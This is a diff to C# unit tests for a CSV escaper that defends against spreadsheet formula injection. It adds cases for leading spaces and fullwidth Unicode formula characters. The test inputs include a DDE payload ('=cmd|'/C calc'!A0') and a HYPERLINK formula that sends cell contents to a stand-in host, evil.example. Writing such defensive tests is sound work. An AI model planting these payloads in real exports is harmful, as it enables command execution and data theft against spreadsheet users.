@@ -17,6 +17,13 @@ public sealed class CsvCellsTests
     [TestCase("\t=1+1", "'\t=1+1")]
     [TestCase("\r=1+1", "\"'\r=1+1\"")]
     [TestCase("=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0")]
+    [TestCase(" =1+1", "' =1+1")]
+    [TestCase("\u3000 =1+1", "'\u3000 =1+1")]
+    [TestCase("\uFF1D1+1", "'\uFF1D1+1")]
+    [TestCase("\uFF0BA1", "'\uFF0BA1")]
+    [TestCase("\uFF0DA1", "'\uFF0DA1")]
+    [TestCase("\uFF20SUM(A1:A9)", "'\uFF20SUM(A1:A9)")]
+    [TestCase(" -A1", "' -A1")]
     [TestCase("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"")]
     public void AppendText_DangerousFirstCharacter_QuotePrefixedInsideCsvQuoting(string value, string expected)
     {
@@ -29,6 +36,7 @@ public sealed class CsvCellsTests
     [TestCase("+1E+10")]
     [TestCase("-.5")]
     [TestCase("-0")]
+    [TestCase(" -1")]
     public void AppendText_SignedPlainNumber_Untouched(string value)
     {
         Assert.That(Cell(value), Is.EqualTo(value));
@@ -48,7 +56,8 @@ public sealed class CsvCellsTests
 
     [TestCase("cat", "cat")]
     [TestCase("a=b", "a=b")]
-    [TestCase(" =1+1", " =1+1")]
+    [TestCase("a =1", "a =1")]
+    [TestCase(" 1", " 1")]
     [TestCase("file://prod/1.png", "file://prod/1.png")]
     [TestCase("new, \"odd\" class", "\"new, \"\"odd\"\" class\"")]
     [TestCase("", "")]
